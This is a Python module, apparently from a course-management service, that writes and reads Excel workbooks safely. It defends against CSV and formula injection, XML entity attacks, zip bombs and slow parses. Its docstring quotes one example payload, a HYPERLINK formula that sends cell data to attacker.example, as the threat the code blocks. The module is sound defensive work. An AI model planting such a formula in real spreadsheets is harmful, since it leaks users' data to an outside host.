"""Every .xlsx the system writes or reads goes through here (openpyxl).

Writing: user text is stored as text. openpyxl turns any string starting with ``=`` into a formula,
so a course named ``=HYPERLINK("http://attacker.example/?x="&A1,"…")`` became a live link in an
admin's Excel. Following OWASP's CSV-injection advice, a string starting with ``=``, ``+``, ``-``,
``@``, a tab or a CR is written as a string cell with Excel's quote prefix (the cell shows and
keeps the exact text, and stays text when a user edits it); no string is ever a formula. Characters
an .xlsx cannot hold (everything XML 1.0 does not allow: C0 controls but tab, LF and CR, lone
surrogates, U+FFFE and U+FFFF) are dropped, so such text never makes a workbook Excel cannot open.

Reading uploads (``read_upload``): the workbook is parsed in a worker process (never on the event
loop, nor in a thread that shares its GIL), refused with a 422 when it is not a readable .xlsx, has no sheet, declares a DTD or entities
(checked with defusedxml; openpyxl parses with it too once it is installed) or unpacks to more than
``MAX_UNPACKED_BYTES`` or holds more shared strings than the sheet could use (a 413 then); every row
after the header counts toward the row limit, blank ones too, and reading stops at the limit. A
workbook that still takes longer than ``PARSE_SECONDS`` is refused (413) and its parser process killed.
"""

from __future__ import annotations

import asyncio
import functools
import io
import multiprocessing
import re
import zipfile
from collections.abc import Iterable, Sequence
from concurrent.futures import ProcessPoolExecutor
from concurrent.futures.process import BrokenProcessPool
from dataclasses import dataclass
from datetime import date, datetime, time
from typing import Any
from xml.etree.ElementTree import ParseError

from defusedxml import DefusedXmlException
from defusedxml.ElementTree import iterparse
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from jijiao_kit.errors import InvalidInput

XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: Leading characters that make a spreadsheet (or a CSV opened in one) evaluate a cell.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: Columns read from an upload (a forged dimension cannot make each row 16,384 cells wide).
MAX_COLUMNS = 64
#: Unpacked size of all parts of an uploaded workbook (a small zip can unpack to gigabytes).
MAX_UNPACKED_BYTES = 64 * 1024 * 1024
#: Longest a workbook may take to read; the checks above bound it, this bounds what they miss.
PARSE_SECONDS = 30.0
#: What XML 1.0 cannot hold (openpyxl's ``ILLEGAL_CHARACTERS_RE`` misses surrogates, U+FFFE, U+FFFF):
#: written as is, the sheet's XML is not well-formed and the workbook does not open.
NOT_XML_CHARACTERS = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


@dataclass(frozen=True)
class SheetSpec:
    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence[Any]]
    widths: bool = False  # size columns to the headers


def _plain(value: Any) -> Any:
    if value is None:
        return None
    if isinstance(value, bool | int | float):
        return value
    if isinstance(value, datetime):
        if value.tzinfo is not None:
            return value.replace(tzinfo=None)  # Excel has no time zones (callers pass local or UTC)
        return value
    if isinstance(value, date | time):
        return value
    return NOT_XML_CHARACTERS.sub("", str(value))


def write_row(sheet: Any, values: Sequence[Any], *, bold: bool = False) -> None:
    """Append one row; strings are always string cells, risky ones with the quote prefix."""
    plain = [_plain(value) for value in values]
    sheet.append(plain)
    if not plain:
        return
    row = sheet.max_row
    for cell in next(sheet.iter_rows(min_row=row, max_row=row, max_col=len(plain))):
        if isinstance(cell.value, str):
            cell.data_type = "s"  # never "f", whatever the text starts with
            if cell.value.startswith(FORMULA_TRIGGERS):
                cell.quotePrefix = True
        if bold:
            cell.font = Font(bold=True)


def workbook_bytes(sheets: Sequence[SheetSpec]) -> bytes:
    """One workbook of one or more sheets, each a bold header row then its rows."""
    workbook = Workbook()
    first = True
    for spec in sheets:
        sheet = workbook.active if first else workbook.create_sheet()
        assert sheet is not None
        first = False
        sheet.title = spec.title[:31]
        write_row(sheet, list(spec.headers), bold=True)
        for values in spec.rows:
            write_row(sheet, list(values))
        if spec.widths:
            for index, header in enumerate(spec.headers, start=1):
                letter = sheet.cell(row=1, column=index).column_letter
                sheet.column_dimensions[letter].width = max(10, len(str(header)) * 2 + 2)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rows_xlsx(title: str, headers: Sequence[str], rows: Iterable[Sequence[Any]], *, widths: bool = False) -> bytes:
    """A one-sheet workbook: a header row, then the rows."""
    return workbook_bytes([SheetSpec(title, headers, rows, widths)])


# --- reading uploads ------------------------------------------------------------------------------


class WorkbookRejected(InvalidInput):
    """An uploaded workbook that cannot be read safely (422)."""

    code, title = "invalid_workbook", "文件不是有效的 Excel(.xlsx)表格"


class TooManyRows(WorkbookRejected):
    code, title = "too_many_rows", "行数超过限制"


class WorkbookTooLarge(WorkbookRejected):
    """Unpacks to more than ``MAX_UNPACKED_BYTES``, or more shared strings than rows x columns (413)."""

    status, code, title = 413, "workbook_too_large", "Excel 文件内容过大，请精简后重新上传"


class WorkbookTooSlow(WorkbookTooLarge):
    """Took longer than ``PARSE_SECONDS`` to read (its parser process is killed)."""

    code, title = "workbook_parse_timeout", "Excel 文件处理超时，请精简后重新上传"


@dataclass(frozen=True)
class UploadedSheet:
    header: list[Any]
    rows: list[tuple[int, list[Any]]]  # (1-based row number as Excel shows it, values); blank rows left out


def _check_parts(archive: zipfile.ZipFile, max_rows: int, max_columns: int = MAX_COLUMNS) -> None:
    members = archive.infolist()
    # zipfile stops each part at its declared size (a part that unpacks to more fails its CRC check),
    # so the declared sizes bound what openpyxl can unpack.
    if sum(info.file_size for info in members) > MAX_UNPACKED_BYTES:
        raise WorkbookTooLarge(f"The workbook unpacks to more than {MAX_UNPACKED_BYTES} bytes.")
    # openpyxl loads every shared string into memory before the first row; a sheet of this size can
    # use no more distinct strings than it has cells.
    max_strings = (max_rows + 2) * max_columns
    for info in members:
        if not info.filename.endswith((".xml", ".rels")):
            continue
        with archive.open(info) as part:
            try:
                # The prolog (where a DTD or entity must be) comes before the root's start event. The
                # root says what a part is, whatever its name ([Content_Types].xml may put a sheet or
                # the shared strings anywhere). In a sheet, the rows are counted as they stream by
                # (openpyxl's read-only loader scans a sheet without a <dimension> to its end before
                # the first row is handed out); in a shared-string table, its strings.
                root = None
                last = 0
                strings = 0
                for event, element in iterparse(part, events=("start", "end"), forbid_dtd=True):
                    name = element.tag.rpartition("}")[2]
                    if root is None:
                        root = name
                        if root not in ("worksheet", "sst"):
                            break
                    if root == "sst":
                        if event == "end" and name == "si":
                            strings += 1
                            element.clear()
                            if strings > max_strings:
                                raise WorkbookTooLarge(f"More than {max_strings} shared strings.")
                    elif name == "row":
                        if event == "start":
                            last = _row_number(element.get("r"), last)
                            if last - 1 > max_rows:  # after the header, every row counts, blank ones too
                                raise TooManyRows(f"At most {max_rows} rows (blank rows included) per workbook.")
                        else:
                            element.clear()
            except DefusedXmlException as exc:
                raise WorkbookRejected(
                    f"The workbook part {info.filename} declares a DTD or entities.",
                    code="workbook_dtd_forbidden",
                ) from exc
            except ParseError as exc:
                raise WorkbookRejected(f"The workbook part {info.filename} is not well-formed XML.") from exc


def _row_number(number: str | None, last: int) -> int:
    """A row's number: its ``r`` attribute (a sheet may skip rows: r="400001"), else the next one."""
    try:
        return max(int(number), last + 1) if number is not None else last + 1
    except ValueError:
        return last + 1


def _is_blank(values: Sequence[Any]) -> bool:
    return all(value is None or (isinstance(value, str) and not value.strip()) for value in values)


def _trimmed(values: Sequence[Any]) -> list[Any]:
    out = list(values)
    while out and out[-1] is None:
        out.pop()
    return out


def read_workbook(data: bytes, *, max_rows: int, max_columns: int = MAX_COLUMNS) -> UploadedSheet:
    """The first sheet of an uploaded workbook (blocking: call ``read_upload`` from async code)."""
    try:
        archive = zipfile.ZipFile(io.BytesIO(data))
    except (zipfile.BadZipFile, ValueError, OSError) as exc:
        raise WorkbookRejected("The file is not an .xlsx workbook (not a zip archive).") from exc
    with archive:
        try:
            _check_parts(archive, max_rows, max_columns)
        except (zipfile.BadZipFile, OSError, EOFError, RuntimeError, NotImplementedError) as exc:
            raise WorkbookRejected("The workbook archive is damaged.") from exc
    try:
        workbook = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except WorkbookRejected:
        raise
    except Exception as exc:  # openpyxl raises many kinds (KeyError, ParseError, TypeError, ...)
        raise WorkbookRejected("The file is not a readable .xlsx workbook.") from exc
    try:
        if not workbook.worksheets:
            raise WorkbookRejected("The workbook has no sheet.", code="workbook_without_sheets")
        sheet = workbook.worksheets[0]
        # +2: the header row, and one row past the limit to notice it is exceeded.
        declared = getattr(sheet, "max_column", None)
        width = min(declared, max_columns) if isinstance(declared, int) and declared > 0 else max_columns
        rows = sheet.iter_rows(max_row=max_rows + 2, max_col=width, values_only=True)
        header = _trimmed(next(rows, ()))
        out: list[tuple[int, list[Any]]] = []
        for number, values in enumerate(rows, start=2):
            if number - 1 > max_rows:  # every row after the header counts, blank ones too
                raise TooManyRows(f"At most {max_rows} rows (blank rows included) per workbook.")
            if not _is_blank(values):
                out.append((number, _trimmed(values)))
        return UploadedSheet(header, out)
    except WorkbookRejected:
        raise
    except Exception as exc:
        raise WorkbookRejected("The workbook's sheet cannot be read.") from exc
    finally:
        workbook.close()


_pool: ProcessPoolExecutor | None = None


def _parser_pool() -> ProcessPoolExecutor:
    """One worker process per service process parses uploads: a thread would share the GIL (and the
    garbage collector's full passes) with the event loop, and /healthz waited up to 0.8 s during a
    5,000-row import. A forkserver child never inherits the API's threads or sockets."""
    global _pool
    if _pool is None:
        context = multiprocessing.get_context("forkserver")
        context.set_forkserver_preload([__name__])
        _pool = ProcessPoolExecutor(max_workers=1, mp_context=context)
    return _pool


def _discard(pool: ProcessPoolExecutor) -> None:
    """Kill the parser process of ``pool`` (stuck on a workbook) and start afresh next time; a parse
    that was sharing it ends as ``workbook_unreadable``."""
    global _pool
    if _pool is pool:
        _pool = None
    for process in list(getattr(pool, "_processes", {}).values()):
        process.kill()
    pool.shutdown(wait=False, cancel_futures=True)


async def read_upload(
    data: bytes, *, max_rows: int, max_columns: int = MAX_COLUMNS, timeout_seconds: float = PARSE_SECONDS
) -> UploadedSheet:
    """``read_workbook`` in a worker process, so the API keeps answering while a workbook is parsed;
    one that takes longer than ``timeout_seconds`` is refused (413) and its parser process killed."""
    global _pool
    loop = asyncio.get_running_loop()
    call = functools.partial(read_workbook, data, max_rows=max_rows, max_columns=max_columns)
    pool = _parser_pool()
    try:
        return await asyncio.wait_for(loop.run_in_executor(pool, call), timeout_seconds)
    except TimeoutError as exc:
        _discard(pool)
        raise WorkbookTooSlow(f"The workbook took more than {timeout_seconds} s to read.") from exc
    except BrokenProcessPool as exc:  # the parser died (e.g. out of memory): a fresh pool next time
        if _pool is pool:
            _pool = None
        raise WorkbookRejected("The workbook could not be read.", code="workbook_unreadable") from exc
